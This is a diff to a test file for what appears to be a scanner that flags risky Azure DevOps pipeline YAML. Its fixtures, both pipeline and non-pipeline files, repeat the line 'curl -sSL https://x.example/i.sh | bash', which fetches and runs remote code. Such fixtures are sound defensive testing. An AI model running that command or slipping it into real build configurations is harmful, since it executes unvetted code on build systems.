@@ -17,6 +17,8 @@ PIPELINES = {
     "deploy/stages.yaml": "stages:\n  - template: other.yml\n  - stage: s\n    jobs:\n      - deployment: d\n"
     "        environment: prod\n        strategy:\n          runOnce:\n            deploy:\n              steps:\n      "
     "          - script: curl -sSL https://x.example/i.sh | bash\n",
+    "x/caller-steps.yml": "parameters:\n  - name: pre\n    type: stepList\nsteps:\n  - ${{ parameters.pre }}\n"
+    + RISKY,
     "x/insert.yml": "steps:\n  - ${{ if eq(parameters.a, true) }}:\n    - script: curl -sSL https://x.example/i.sh | bash\n",
 }
 NOT_PIPELINES = {
@@ -37,6 +39,7 @@ NOT_PIPELINES = {
     "Taskfile.yml": "version: '3'\ntasks:\n  build:\n    cmds:\n      - curl -sSL https://x.example/i.sh | bash\n",
     "bitbucket-pipelines.yml": "pipelines:\n  default:\n    - step:\n        script:\n          - curl -sSL https://x.example/i.sh | bash\n",
     "config/app.yml": "steps: []\njobs: [build, test]\n",
+    "config/only-expressions.yml": "steps:\n  - ${{ parameters.a }}\n",
     "charts/app/templates/job.yaml": "apiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec: {{ toYaml .Values.spec | nindent 4 }}\n",
 }
 
@@ -53,6 +56,7 @@ def test_pipelines_are_found_by_content_and_others_are_not(tmp_path):
             ("eng/common/templates/steps/build.yml", "ADO-PIPE-13"),
             ("eng/pipelines/release.yml", "ADO-PIPE-13"),
             ("tools/jobs.yml", "ADO-PIPE-13"),
+            ("x/caller-steps.yml", "ADO-PIPE-13"),
             ("x/insert.yml", "ADO-PIPE-13"),
         ]
     )
